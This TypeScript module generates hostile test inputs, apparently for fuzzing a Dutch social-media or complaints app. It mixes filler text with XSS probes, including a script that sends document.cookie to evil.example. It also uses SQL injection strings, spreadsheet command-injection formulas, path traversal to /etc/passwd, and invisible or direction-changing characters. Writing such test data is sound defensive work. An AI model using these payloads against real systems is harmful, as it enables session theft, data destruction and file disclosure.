import type { Rng } from './random.ts';

/**
 * Hostile text, as social media delivers it: markup and script, SQL, invisible and
 * direction-changing characters, stacked combining marks, very long texts. Everything stays
 * well-formed Unicode: no NUL and no lone surrogates.
 */
export const HOSTILE_KINDS = [
  'script',
  'html',
  'sql',
  'zero-width',
  'rtl',
  'combining',
  'injection',
  'long',
] as const;
export type HostileKind = (typeof HOSTILE_KINDS)[number];

/** The length of a `long` text, in UTF-16 code units. */
export const LONG_TEXT_LENGTH = 5000;

const SCRIPTS = [
  '<script>alert(1)</script>',
  "<script>fetch('https://evil.example/?c='+document.cookie)</script>",
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '</textarea><script>alert(document.domain)</script>',
];
const HTML = [
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  '<a href="javascript:alert(1)">klik hier</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<b>BELANGRIJK</b> <marquee>lees dit</marquee>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;&amp; &#x3C;b&#x3E;',
];
const SQL = [
  "'; DROP TABLE messages; --",
  "' OR '1'='1",
  "Robert'); DROP TABLE students;--",
  '1; SELECT pg_sleep(10); --',
  "admin'--",
  "' UNION SELECT password FROM users --",
];
const INJECTIONS = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
  '{{7*7}} ${7*7} #{7*7}',
  '=HYPERLINK("https://evil.example","klik")',
  "=cmd|' /C calc'!A0",
  '%s%s%s%n%x',
  '../../../../etc/passwd',
  '[klik](javascript:alert(1))',
  'text:"x" OR author:* AND NOT (',
  'NULL undefined NaN \\u0000 \\x00',
];
const ZERO_WIDTH = ['\u200B', '\u200C', '\u200D', '\u2060', '\uFEFF'];
const FILLER = [
  'Ik wil hier toch echt even mijn verhaal kwijt over wat er in onze straat gebeurt.',
  'Al maanden melden wij dezelfde problemen en er verandert helemaal niets.',
  'De containers zijn vol, de stoep ligt open en niemand neemt de telefoon op.',
  'Ik heb de wethouder gemaild, de raad gemaild en de ombudsman gebeld.',
  'Mijn buren zijn het er helemaal mee eens en we gaan handtekeningen verzamelen.',
  'Dit is mijn laatste poging om het netjes op te lossen voordat ik naar de krant stap.',
];

/** Inserts zero-width characters inside words, and a byte-order mark at the start. */
function sprinkleZeroWidth(rng: Rng, text: string): string {
  let out = '\uFEFF';
  for (const ch of text) {
    out += ch;
    if (ch !== ' ' && rng.chance(0.15)) out += rng.pick(ZERO_WIDTH);
  }
  return out;
}

/** Stacks combining marks (U+0300–U+036F) on the letters of part of the text. */
function zalgo(rng: Rng, text: string): string {
  let out = '';
  for (const ch of text) {
    out += ch;
    if (/\p{L}/u.test(ch)) {
      const marks = rng.int(2, 6);
      for (let i = 0; i < marks; i++) out += String.fromCharCode(0x300 + rng.int(0, 0x6f));
    }
  }
  return out;
}

/** Text of exactly `length` UTF-16 units, ending on a whole character. */
function longText(rng: Rng, start: string, length: number): string {
  let out = start;
  while (out.length < length) out += ` ${rng.pick(FILLER)}`;
  out = out.slice(0, length);
  const last = out.charCodeAt(out.length - 1);
  if (last >= 0xd800 && last <= 0xdbff) out = `${out.slice(0, -1)}!`;
  return out;
}

/**
 * Makes `body` hostile; a `long` body is exactly LONG_TEXT_LENGTH units. `canonical` takes the
 * best-known probe of each kind (`<script>alert(1)</script>`, `'; DROP TABLE messages; --`…).
 */
export function hostileText(kind: HostileKind, rng: Rng, body: string, canonical = false): string {
  const choose = (probes: readonly string[]) => (canonical ? (probes[0] as string) : rng.pick(probes));
  switch (kind) {
    case 'script':
      return rng.chance(0.5) ? `${body} ${choose(SCRIPTS)}` : `${choose(SCRIPTS)} ${body}`;
    case 'html':
      return `${body} ${choose(HTML)}`;
    case 'sql':
      return rng.chance(0.5) ? `${body} ${choose(SQL)}` : `${choose(SQL)} ${body}`;
    case 'zero-width':
      return sprinkleZeroWidth(rng, body);
    case 'rtl':
      return rng.chance(0.5) ? `${body} \u202Egpj.exe\u202C` : `\u202E${body}`;
    case 'combining': {
      const cut = Math.min(body.length, rng.int(8, 40));
      const safeCut = cut > 0 && /[\uD800-\uDBFF]/.test(body.charAt(cut - 1)) ? cut + 1 : cut;
      return `${zalgo(rng, body.slice(0, safeCut))}${body.slice(safeCut)}`;
    }
    case 'injection':
      return `${body} ${choose(INJECTIONS)}`;
    case 'long':
      return longText(rng, body, LONG_TEXT_LENGTH);
  }
}
